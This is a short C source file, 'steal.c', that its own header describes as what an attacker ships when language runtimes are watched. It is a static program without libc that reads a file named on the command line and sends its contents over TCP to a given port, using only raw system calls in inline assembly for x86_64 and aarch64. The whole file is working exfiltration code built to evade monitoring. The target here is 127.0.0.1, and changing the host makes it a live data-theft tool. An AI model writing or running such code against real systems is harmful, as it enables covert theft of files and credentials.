/*
 * What an attacker ships when tools and language runtimes are watched: a static program without libc.
 *
 *     steal FILE PORT
 *
 * reads FILE and writes it to 127.0.0.1:PORT, with raw system calls only. If one fails, it says which errno.
 *
 * Build: cc -static -nostdlib -ffreestanding -fno-stack-protector -fno-pie -no-pie -O1 -o steal steal.c
 */
#include <asm/unistd.h>

#define AT_FDCWD (-100)
#define AF_INET 2
#define SOCK_STREAM 1

struct address {
	unsigned short family;
	unsigned char port[2]; /* big-endian */
	unsigned char host[4];
	unsigned char zero[8];
};

static long call(long number, long a, long b, long c, long d)
{
#if defined(__x86_64__)
	long result;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;

	__asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
#else
#error "no system calls written down for this machine"
#endif
}

static long try(long result)
{
	if (result < 0) {
		char text[] = "errno 000\n";
		char *digit = text + sizeof(text) - 2;

		for (long rest = -result; rest; rest /= 10)
			*--digit = (char)('0' + rest % 10);
		call(__NR_write, 2, (long)text, 6, 0);
		call(__NR_write, 2, (long)digit, text + sizeof(text) - 1 - digit, 0);
		for (;;)
			call(__NR_exit_group, 1, 0, 0, 0);
	}
	return result;
}

__attribute__((used)) void steal(long *stack)
{
	char **argv = (char **)(stack + 1);
	struct address attacker = { .family = AF_INET, .host = { 127, 0, 0, 1 } };
	char secret[512];
	unsigned port = 0;
	long file, peer, length;

	if (stack[0] != 3)
		try(-22); /* EINVAL */
	for (const char *digit = argv[2]; *digit; digit++)
		port = port * 10 + (unsigned)(*digit - '0');
	attacker.port[0] = (unsigned char)(port >> 8);
	attacker.port[1] = (unsigned char)port;

	file = try(call(__NR_openat, AT_FDCWD, (long)argv[1], 0, 0));
	length = try(call(__NR_read, file, (long)secret, sizeof(secret), 0));
	peer = try(call(__NR_socket, AF_INET, SOCK_STREAM, 0, 0));
	try(call(__NR_connect, peer, (long)&attacker, sizeof(attacker), 0));
	try(call(__NR_write, peer, (long)secret, length, 0));
	call(__NR_exit_group, 0, 0, 0, 0);
}

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall steal\n\thlt\n");
#elif defined(__aarch64__)
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tbl steal\n");
#endif
